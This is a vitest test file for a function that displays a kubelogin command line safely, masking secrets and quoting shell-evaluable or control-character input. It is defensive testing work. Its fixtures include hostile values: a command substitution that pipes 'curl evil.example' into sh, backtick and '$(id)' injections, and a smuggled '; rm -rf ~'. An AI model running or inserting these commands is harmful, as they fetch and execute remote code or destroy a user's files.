import { expect, test } from 'vitest'
import { shownCommand } from './shown-words'

const shown = (
  args: string[],
  {
    variables = [],
    evaluates = false,
  }: { variables?: { name: string; value: string }[]; evaluates?: boolean } = {},
) => shownCommand({ command: 'kubelogin', args, variables, evaluates }, () => 'digest abc')
const words = (...args: string[]) => shown(args).words.slice(1)

test.each<[what: string, args: string[], words: string[]]>([
  [
    'a secret option',
    ['--client-secret=s3cr3tvalue'],
    ['--client-secret=[hidden: 11 letters, digest abc]'],
  ],
  [
    'a secret that follows its option',
    ['--token', 's3cr3tvalue'],
    ['--token', '[hidden: 11 letters, digest abc]'],
  ],
  [
    'a token by its form',
    ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc'],
    ['[hidden: 40 letters, digest abc]'],
  ],
  [
    'the password of an address',
    ['https://u:hunter2@id.example/x'],
    ["'https://u:[hidden: 7 letters, digest abc]@id.example/x'"],
  ],
  [
    'a header',
    ['Authorization: Bearer abcdefgh1234'],
    ["'Authorization: Bearer [hidden: 12 letters, digest abc]'"],
  ],
  ['what is only about a secret', ['--token-cache-storage=none'], ['--token-cache-storage=none']],
  ['a path', ['--token=/tmp/evil.sh'], ['--token=/tmp/evil.sh']],
  [
    'text that a shell would evaluate',
    ['token=$(curl evil.example|sh)'],
    ["'token=$(curl evil.example|sh)'"],
  ],
  ['backticks', ['--password=`id`'], ["'--password=`id`'"]],
  ['where words end', ['a b', "it's"], ["'a b'", `'it'\\''s'`]],
  ['direction and control characters', ['a\u202eb\u001b[2K'], ["'a<U+202E>b<U+001B>[2K'"]],
])('%s', (_what, args, want) => expect(words(...args)).toEqual(want))

test('however long, the whole command line is there', () => {
  const long = 'x'.repeat(5000)
  expect(words(long, '; rm -rf ~')).toEqual([long, "'; rm -rf ~'"])
})
test('variables come with their values, and those that load code are marked and never hidden', () => {
  const { variables, hidden } = shown([], {
    variables: [
      { name: 'AWS_PROFILE', value: 'lab' },
      { name: 'AWS_SECRET_ACCESS_KEY', value: 'abc123' },
      { name: 'LD_PRELOAD', value: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc' },
      { name: 'TOKEN', value: '$(id)' },
    ],
  })
  expect(variables).toEqual([
    { name: 'AWS_PROFILE', value: 'lab', loadsCode: false },
    { name: 'AWS_SECRET_ACCESS_KEY', value: '[hidden: 6 letters, digest abc]', loadsCode: false },
    { name: 'LD_PRELOAD', value: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc', loadsCode: true },
    { name: 'TOKEN', value: '$(id)', loadsCode: false },
  ])
  expect(hidden).toBe(1)
})
test('nothing that an interpreter is told is taken for a mere value', () =>
  expect(
    shown(['-c', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc'], { evaluates: true }).words[2],
  ).toBe('eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc'))
